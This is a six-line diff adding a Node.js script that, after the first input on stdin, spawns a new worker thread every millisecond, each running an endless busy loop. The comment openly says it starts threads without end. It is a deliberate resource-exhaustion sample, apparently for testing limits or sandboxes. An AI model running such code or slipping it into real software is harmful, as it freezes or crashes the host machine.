@@ -1,0 +1,6 @@
+// Starts worker threads without end.
+import { Worker } from 'node:worker_threads';
+
+process.stdin.once('data', () => {
+  setInterval(() => new Worker('for (;;);', { eval: true }), 1);
+});
